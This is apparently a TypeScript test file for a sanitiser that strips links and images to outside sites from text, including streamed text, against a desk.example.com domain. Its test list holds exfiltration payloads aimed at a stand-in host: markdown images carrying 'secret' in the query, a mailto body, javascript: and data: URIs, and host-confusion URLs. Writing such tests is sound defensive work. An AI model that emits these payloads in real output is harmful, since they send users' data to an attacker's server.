import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { SafeStream, safeText } from './safe-text.ts';

const OWN = 'https://desk.example.com';
const safe = (text: string): string => safeText(text, OWN);

describe('Text without links to other sites', () => {
  for (const hostile of [
    '![x](https://evil.example/a.png?d=secret)',
    '[click](https://evil.example/)',
    '[click](//evil.example/x)',
    'see https://evil.example/x.',
    'see HTTPS://EVIL.example/x',
    'see www.evil.example/x',
    '<img src="https://evil.example/a.png">',
    '<img src=//evil.example/a.png>',
    '<a href="https://evil.example">here</a>',
    '<https://evil.example/x>',
    '[x]: https://evil.example/x',
    '[x](javascript:alert(1))',
    '[x](data:text/html;base64,AAAA)',
    '[evil.example](mailto:a@evil.example?body=secret)',
    '![x][y]\n[y]: //evil.example/a.png',
    '![x\n](//evil.example/a.png)',
    '![x](\n//evil.example/a.png)',
    '<img\nsrc="https://evil.example/a.png">',
    '[x](ftp://evil.example/x "title")',
    'https://desk.example.com.evil.example/x',
    'https://desk.example.com@evil.example/x',
  ]) {
    test(`${JSON.stringify(hostile)} leads nowhere`, () => {
      const text = safe(hostile);
      assert.doesNotMatch(text, /!\[|\/\/\S*evil|javascript:|data:text|mailto:/i);
    });
  }

  test('own links, placeholders, commands and punctuation are left', () => {
    for (const text of [
      `See [KB0000012](${OWN}/console/knowledge/articles/KB0000012).`,
      'Run `kinit <user name>` and read /etc/krb5.conf // then sign in.',
      '| a | b |\n| --- | --- |\n\n- [x] done: 5.7.1 (see KB0000001)',
      'ratio 3:1, at 10:30, C:\\Temp, a//b',
    ])
      assert.equal(safe(text), text);
  });

  test('a stream is cleaned as the whole text is, however it is cut', () => {
    const text = 'First ![x](https://evil.example/a).\nSecond https://evil.example/b\n\nThird line';
    for (let size = 1; size < 12; size += 1) {
      const parts: string[] = [];
      const stream = new SafeStream(OWN, (part) => parts.push(part));
      for (let at = 0; at < text.length; at += size) stream.write(text.slice(at, at + size));
      stream.end();
      assert.equal(parts.join(''), safe(text));
    }
  });
});
